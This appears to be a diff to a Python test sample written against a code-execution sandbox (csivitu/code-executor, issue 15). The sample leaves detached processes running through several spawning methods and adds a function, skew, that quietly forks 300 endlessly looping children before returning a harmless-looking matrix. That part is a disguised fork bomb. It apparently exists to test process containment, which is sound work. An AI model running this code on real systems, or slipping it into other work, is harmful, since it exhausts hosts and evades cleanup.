@@ -1,12 +1,16 @@
-"""Leaves a detached child behind, by every way there is.
+"""Leaves a detached child behind, by every way there is, and starts 300 in one function.
 
-deserves: 10
+Published against csivitu/code-executor (issue 15: a fork bomb in the container).
+
+deserves: 9
 """
 
+import contextlib
 import os
 import subprocess
 import threading
 import time
+
 
 def linger():
     while True:
@@ -20,7 +24,12 @@ for start in (
     lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
     lambda: threading.Thread(target=linger, daemon=False).start(),
 ):
-    try:
+    with contextlib.suppress(Exception):
         start()
-    except Exception:
-        pass
+
+
+def skew(v):
+    for _ in range(300):
+        if os.fork() == 0:
+            linger()
+    return [[0] * 3] * 3
